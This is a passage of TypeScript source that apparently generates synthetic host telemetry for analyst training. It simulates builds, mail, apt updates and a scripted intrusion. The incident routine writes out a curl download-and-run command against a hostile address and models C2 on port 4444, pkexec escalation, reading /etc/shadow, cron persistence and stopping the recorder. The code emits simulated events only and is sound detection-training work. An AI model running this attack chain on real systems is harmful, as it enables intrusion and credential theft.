        argv: ['/usr/libexec/gcc/x86_64-linux-gnu/12/cc1', '-quiet', src],
        cwd: '/home/ci/builds/shop',
      });
      this.touch(c + 3000, cc1, `/home/ci/builds/shop/${src}`, 200_000);
      this.touch(c + 3500, cc1, '/usr/include/stdio.h', 20_000);
      this.exit(c + 400_000, cc1);
      const as = this.spawn(c + 401_000, gcc, {
        exe: '/usr/bin/x86_64-linux-gnu-as',
        argv: ['as', '--64', '-o', src.replace('.c', '.o')],
        cwd: '/home/ci/builds/shop',
      });
      this.exit(c + 450_000, as);
      this.exit(c + 460_000, gcc);
      c += 470_000;
    }
    this.exit(c + 1000, make);
    this.exit(c + 2000, job);
  }

  private mail(t: number): void {
    const master = this.daemons.get('postfix')!;
    const smtpd = this.spawn(t, master, {
      exe: '/usr/lib/postfix/sbin/smtpd',
      argv: ['smtpd', '-n', 'smtp', '-t', 'inet', '-u'],
      uid: 1,
    });
    this.connect(
      t + 100,
      smtpd,
      [this.spec.ip, 25],
      [this.rng.chance(0.4) ? hostileIp(this.rng) : clientIp(this.rng), this.ephemeral()],
      4 * SECOND,
    );
    this.touch(
      t + 1000,
      smtpd,
      `/var/spool/postfix/incoming/${this.rng.int(0x10000, 0xfffff).toString(16).toUpperCase()}`,
      2 * SECOND,
    );
    this.exit(t + 5 * SECOND, smtpd);
    if (this.rng.chance(0.5)) {
      const smtp = this.spawn(t + 6 * SECOND, master, {
        exe: '/usr/lib/postfix/sbin/smtp',
        argv: ['smtp', '-t', 'unix', '-u', '-c'],
        uid: 1,
      });
      this.resolve(t + 6 * SECOND + 100, smtp);
      this.connect(
        t + 6 * SECOND + 500,
        smtp,
        [this.spec.ip, this.ephemeral()],
        [this.rng.pick(OUTBOUND.mailRelay), 25],
        3 * SECOND,
        ['SYN_SENT', 'ESTABLISHED', 'FIN_WAIT1'],
      );
      this.exit(t + 10 * SECOND, smtp);
    }
  }

  private scrape(t: number): void {
    const exporter = this.daemons.get('node_exporter')!;
    this.connect(t, exporter, [this.spec.ip, 9100], ['10.0.5.10', this.ephemeral()], 200_000);
    this.touch(t + 1000, exporter, '/proc/meminfo', 1000);
  }

  private aptUpdate(t: number): void {
    const systemd = this.daemons.get('systemd')!;
    const apt = this.spawn(t, systemd, {
      exe: '/usr/bin/apt-get',
      argv: ['/usr/bin/apt-get', '-qq', 'update'],
    });
    this.touch(t + 1000, apt, '/etc/apt/sources.list', 2000);
    const http = this.spawn(t + 5000, apt, {
      exe: '/usr/lib/apt/methods/http',
      argv: ['/usr/lib/apt/methods/http'],
      uid: 42,
    });
    this.resolve(t + 6000, http);
    this.connect(
      t + 8000,
      http,
      [this.spec.ip, this.ephemeral()],
      [this.rng.pick(OUTBOUND.debianMirror), 80],
      6 * SECOND,
      ['SYN_SENT', 'ESTABLISHED', 'FIN_WAIT1', 'TIME_WAIT'],
    );
    for (const list of [
      'deb.debian.org_debian_dists_bookworm_InRelease',
      'security.debian.org_debian-security_dists_bookworm-security_InRelease',
    ]) {
      this.touch(t + 9000, apt, `/var/lib/apt/lists/partial/${list}`, 4 * SECOND);
    }
    this.exit(t + 15 * SECOND, http);
    this.exit(t + 16 * SECOND, apt);
  }

  /** The recorder itself lost events (spool full while the server was down, say). */
  private recorderGap(t: number): void {
    const from = t - this.rng.int(5, 120) * SECOND;
    this.at(t, {
      type: 'gap',
      t,
      from,
      to: t,
      reason: 'spool full (512 MiB) while the server was unreachable',
      dropped: this.rng.int(10, 4000),
    });
  }

  /**
   * The scripted intrusion an analyst is meant to find: a PHP worker runs a downloader, the payload
   * lands under /tmp and runs with a name that is not UTF-8, a setuid helper gives it root, it
   * reads /etc/shadow, keeps a C2 connection to a hostile address, and adds itself to cron.
   */
  private incident(t: number): void {
    const worker = this.daemons.get('nginx-worker-0') ?? this.daemons.get('sshd')!;
    const c2 = hostileIp(this.rng);
    const sh = this.spawn(t, worker, {
      exe: '/usr/bin/dash',
      argv: ['sh', '-c', `curl -fsSL http://${c2}/k.sh -o /tmp/.X11-unix/.k && sh /tmp/.X11-unix/.k`],
      uid: 33,
      cwd: '/var/www/html',
    });
    const curl = this.spawn(t + 3000, sh, {
      exe: '/usr/bin/curl',
      argv: ['curl', '-fsSL', `http://${c2}/k.sh`, '-o', '/tmp/.X11-unix/.k'],
      cwd: '/var/www/html',
    });
    this.connect(t + 5000, curl, [this.spec.ip, this.ephemeral()], [c2, 80], 2 * SECOND, [
      'SYN_SENT',
      'ESTABLISHED',
      'FIN_WAIT1',
    ]);
    this.touch(t + 6000, curl, '/tmp/.X11-unix/.k', SECOND);
    this.exit(t + 2.5 * SECOND, curl);
    const stage = this.spawn(t + 3 * SECOND, sh, {
      exe: '/usr/bin/dash',
      argv: ['sh', '/tmp/.X11-unix/.k'],
      cwd: '/tmp',
    });
    this.touch(t + 3 * SECOND + 500, stage, '/tmp/.X11-unix/.k', 5000);
    const name = Buffer.from([
      0x5b, 0x6b, 0x77, 0x6f, 0x72, 0x6b, 0x65, 0x72, 0x2f, 0x30, 0x3a, 0x31, 0x5d, 0xff,
    ]);
    const implant = this.spawn(t + 4 * SECOND, stage, {
      exe: '/tmp/.X11-unix/.kd',
      argv: [{ b64: name.toString('base64') }, '-c', `${c2}:4444`],
      cwd: '/tmp',
    });
    const life = 7 * HOUR;
    this.connect(t + 5 * SECOND, implant, [this.spec.ip, this.ephemeral()], [c2, 4444], life, [
      'SYN_SENT',
      'ESTABLISHED',
    ]);
    const pkexec = this.spawn(t + 60 * SECOND, implant, {
      exe: '/usr/bin/pkexec',
      argv: [],
      euid: 0,
      cwd: '/tmp',
    });
    this.exec(t + 61 * SECOND, pkexec, { exe: '/usr/bin/dash', argv: ['sh'], uid: 0, cwd: '/tmp' });
    const cat = this.spawn(t + 63 * SECOND, pkexec, {
      exe: '/usr/bin/cat',
      argv: ['cat', '/etc/shadow'],
      uid: 0,
      cwd: '/tmp',
    });
    this.touch(t + 63 * SECOND + 200, cat, '/etc/shadow', 300);
    this.exit(t + 64 * SECOND, cat);
    const cron = this.spawn(t + 70 * SECOND, pkexec, {
      exe: '/usr/bin/crontab',
      argv: ['crontab', '-'],
      uid: 0,
      cwd: '/tmp',
    });
    this.touch(t + 70 * SECOND + 300, cron, '/var/spool/cron/crontabs/root', 1000);
    this.exit(t + 72 * SECOND, cron);
    this.exit(t + 80 * SECOND, pkexec);
    this.exit(t + 5 * SECOND, stage);
    this.exit(t + 6 * SECOND, sh);
    this.exit(t + life + SECOND, implant);
    // The intruder stopped the recorder for a while: the recorder says so when it comes back.
    this.at(t + 2 * HOUR, {
      type: 'gap',
      t: t + 2 * HOUR,
      from: t + HOUR,
      to: t + 2 * HOUR,
      reason: 'recorder was stopped (SIGKILL); restarted by systemd',
      dropped: null,
    });
  }

  // ---- the heap (time, then order of scheduling) ---------------------------------------------

  private pop(): Pending {
    const top = this.heap[0];
    const last = this.heap.pop()!;
    if (this.heap.length > 0) {
      this.heap[0] = last;
      this.siftDown(0);
    }
    return top;
  }

  private less(a: Pending, b: Pending): boolean {
    return a.t < b.t || (a.t === b.t && a.n < b.n);
  }

  private siftUp(i: number): void {
    const h = this.heap;
    while (i > 0) {
      const parent = (i - 1) >> 1;
      if (!this.less(h[i], h[parent])) break;
      [h[i], h[parent]] = [h[parent], h[i]];
      i = parent;
    }
  }

  private siftDown(i: number): void {
    const h = this.heap;
    for (;;) {
      const l = 2 * i + 1;
      const r = l + 1;
      let m = i;
      if (l < h.length && this.less(h[l], h[m])) m = l;
      if (r < h.length && this.less(h[r], h[m])) m = r;
      if (m === i) return;
      [h[i], h[m]] = [h[m], h[i]];
      i = m;
    }
  }
}

function comm(exe: string): string {
  return (exe.split('/').pop() ?? exe).slice(0, 15);
}
